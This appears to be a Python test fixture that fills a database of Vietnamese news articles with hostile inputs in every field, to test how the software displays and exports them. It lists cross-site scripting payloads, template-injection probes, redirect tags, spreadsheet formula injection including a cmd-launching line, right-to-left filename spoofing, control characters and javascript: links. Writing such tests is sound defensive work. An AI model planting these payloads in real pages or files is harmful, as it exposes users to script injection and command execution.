"""A corpus of articles that mean harm: every field of each holds what a browser, a layout or a spreadsheet may run."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, replace
from datetime import timedelta
from pathlib import Path
from unicodedata import normalize

from corpus import Block, BlockKind, Corpus, Tagging
from corpus.findings import record
from corpus.nights import Finding, Night
from corpus.records import Picture
from crawler.archive import ArchiveWriter
from tests.made_articles import NIGHT, page_of, sentences, story
from tintinh.commands.opinions import name_all

SCRIPT = "<script>alert('tiêu đề')</script><img src=x onerror=alert(1)>"
HARM = {
    "script": SCRIPT,
    "attribute": "\"'><svg onload=alert(1)><style>body{display:none}</style>",
    "handler": '" onmouseover="alert(1)" onfocus="alert(1)" autofocus tabindex="1" style="position:fixed',
    "json": '</script><script>alert(1)</script>{"a": "</title><script>alert(2)</script>"}',
    "template": "{{ 7 * 7 }}{% for x in [].__class__.__mro__ %}{% endfor %}${alert(1)}",
    "nested": "<div>" * 60 + "<table><tr><td><iframe src='https://elsewhere.example/'></iframe>" + "</div>" * 60,
    "meta": "<meta http-equiv='refresh' content='0;url=https://elsewhere.example/'><base href='https://elsewhere.example/'>",
    "loads": "<link rel=stylesheet href=https://elsewhere.example/a.css><img src=https://elsewhere.example/a.png>",
    "formula": '=HYPERLINK("https://elsewhere.example/?"&A1;"xem")',
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "Tin \u202egpj.exe\u202c và \u2066\u2067ẩn\u2069\u2069 \u200f\u061cقصة\u200e",
    "rtl": "\u202e\u202e\u202eمرحبا بالعالم שלום עולם ngược dòng",
    "control": "Tin\x01 có \x1b[31mmàu\x1b[0m và \x7f \x85 \ufeff dấu",
    "null": "Tin \x00 có <\x00script>alert(1)</\x00script> số không",
    "marks": "Z" + "\u0300\u0301\u0302\u0303\u0336" * 200 + " chồng dấu",
    "wide": "W" * 3_000,
    "wide_marked": "\u200d".join("\U0001f468\U0001f469" * 400),
    "comment": "<!-- --!> <![CDATA[ <textarea><noscript><plaintext><xmp>",
}
NOWHERE = "https://elsewhere.example/"
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil",
)


@dataclass(frozen=True)
class Hostile:
    """Where it lies, and the numbers of its articles by what each is full of."""

    corpus: Path
    archive: Path
    articles: dict[str, int]


def hostile_corpus(folder: Path, harm: Sequence[str] = (*HARM, "long")) -> Hostile:
    """Make the corpus in ``folder``: an article a kind of harm, with tags, editions, pages and a finding."""
    path, archive = folder / "hostile.sqlite", folder / "archive"
    numbers = {}
    with Corpus.open(path) as corpus, ArchiveWriter(archive) as writer:
        for n, name in enumerate(harm):
            # The long one: a title of a megabyte, markup in it.
            title = normalize("NFC", HARM.get(name, f"{SCRIPT} dài " * 15_000))
            text = title[:20_000]
            said = " ".join(sentences(n))
            blocks = (
                Block(BlockKind.LEAD, text), Block(BlockKind.HEADING, text),
                Block(BlockKind.PARAGRAPH, f"{text} {said} Hai bên Hủa Phăn và Sơn La bàn mở chợ."),
                Block(BlockKind.QUOTE, text), Block(BlockKind.LIST_ITEM, text),
                Block(BlockKind.TABLE_ROW, f"{text} | {text}"), Block(BlockKind.CAPTION, text, credit=text),
                Block(BlockKind.DROPPED, text, reason=text),
            )  # fmt: skip
            made = story(
                n, url=LINKS[n % len(LINKS)] + f"/{n}" if n % 2 else f"{NOWHERE}{n}", title=f"{title} chợ {n}",
                lead=text, blocks=blocks, section=text, authors=(text,), tags=(text,), agency=text, breadcrumb=(text,),
                place=text,
                source=text if n % 3 else "bao_ha_giang", language='vi" onclick="alert(1)' if n % 4 == 0 else "vi",
                pictures=(
                    Picture(LINKS[n % len(LINKS)], alt=text), Picture(f"{NOWHERE}{n}.png?{text[:99]}", caption=text),
                ),
                fetched_at=NIGHT + timedelta(minutes=n),
            )  # fmt: skip
            # An outlet's id is a name of files, and ours; only an article can bear another one.
            page = page_of(
                made,
                url=f"{NOWHERE}{n}?{text[:99]}",
                source="bao_ha_giang",
                body=f"<html><title>{text}</title><script>alert(1)</script>\x00{text}".encode(),
            )
            kept = corpus.keep(made, page=page, place=writer.write(page))
            assert kept.article_id is not None, kept
            later = replace(
                made, title=f"{title} mới {n}", page_digest=f"sha256:{n + 1000:064x}",
                fetched_at=made.fetched_at + timedelta(days=1),
            )  # fmt: skip
            page = replace(page, fetched_at=later.fetched_at)
            assert corpus.keep(later, page=page, place=writer.write(page)).kind == "changed"
            opinion = Tagging("model 1", ("border",), "border", {"border": 0.9, "training": 0.2}, {"border": (text,)})
            corpus.add_tagging(kept.article_id, opinion)
            corpus.add_tagging(kept.article_id, Tagging(f"hand:{text[:200]}", (text[:200], "border"), "border"))
            numbers[name] = kept.article_id
        _night(corpus)
        name_all(corpus)
    return Hostile(path, archive, numbers)


def _night(corpus: Corpus) -> None:
    for name in ("bao_ha_giang", SCRIPT):
        corpus.record_night(Night(name, NIGHT, NIGHT + timedelta(hours=1), 9, 2, 6, 1, 0, {SCRIPT: 3}, 0))
        told = [Finding(name, "silent", "broken", f"{name}: {text[:500]}") for text in HARM.values()]
        record(corpus.connection, name, NIGHT, told)
